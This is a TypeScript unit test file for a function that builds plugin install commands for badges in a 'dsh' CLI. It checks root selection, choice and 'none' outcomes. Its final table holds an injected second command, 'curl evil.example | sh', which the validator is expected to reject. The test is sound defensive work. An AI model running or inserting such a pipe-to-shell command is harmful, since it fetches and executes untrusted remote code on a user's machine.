import type { IndexListing } from '@plugmark/shared/contract'
import { describe, expect, it } from 'vitest'
import { offerFor } from './offers.ts'

const OPTIONS = { cli: 'dsh', profile: 'desk' }

function listing(fullName: string, spec: string | null, npm: string | null = null): IndexListing {
  const install = spec === null ? null : `dsh plugin --profile web add ${spec}`
  return { fullName, category: 'tools', install, path: null, npm }
}

const root = listing('acme/kite', 'github:acme/kite')
const tail = listing('acme/kite#packages/tail', '@acme/tail', '@acme/tail')
const string = listing('acme/kite#packages/string', '@acme/string', '@acme/string')
const bare = listing('acme/kite#packages/bare', null)

describe('the offer of a badge', () => {
  it('the offer of a badge is the command for the user’s own profile', () => {
    expect(offerFor([root], OPTIONS)).toEqual({
      kind: 'command',
      listing: root,
      command: 'dsh plugin --profile desk add github:acme/kite',
    })
  })

  it('the offer of a badge is the command of the root, at any position among the listings', () => {
    expect(offerFor([tail, bare, root, string], OPTIONS)).toEqual(offerFor([root], OPTIONS))
  })

  it('the offer of a badge is the only command that exists, with its listing', () => {
    expect(offerFor([bare, tail], OPTIONS)).toEqual({
      kind: 'command',
      listing: tail,
      command: 'dsh plugin --profile desk add @acme/tail',
    })
  })

  it('the offer of a badge is a choice when several listings can be installed and the root cannot', () => {
    const unpublishedRoot = listing('acme/kite', null)
    expect(offerFor([tail, unpublishedRoot, string], OPTIONS)).toEqual({ kind: 'choice' })
  })

  it('the offer of a badge is a choice of one when only another listing than the root can be installed', () => {
    expect(offerFor([listing('acme/kite', null), tail], OPTIONS)).toEqual({ kind: 'choice' })
  })

  it('the offer of a badge is empty, with the reason, when no listing has a command', () => {
    expect(offerFor([bare], OPTIONS)).toEqual({ kind: 'none', reason: 'subdirectory-unpublished' })
    expect(offerFor([bare, listing('acme/kite', null)], OPTIONS)).toEqual({ kind: 'none', reason: 'unpublished' })
  })

  it.each([
    ['another repository', 'github:evil/kite', 'other-repository'],
    ['another package', 'evil', 'other-package'],
    ['a subdirectory from its repository', 'github:acme/kite', 'subdirectory-needs-package', 'acme/kite#packages/tail'],
    ['a second command', 'github:acme/kite; curl evil.example | sh', 'malformed'],
  ])('the offer of a badge is never a command that installs %s', (_, spec, reason, fullName = 'acme/kite') => {
    expect(offerFor([listing(fullName, spec)], OPTIONS)).toEqual({ kind: 'none', reason })
  })
})
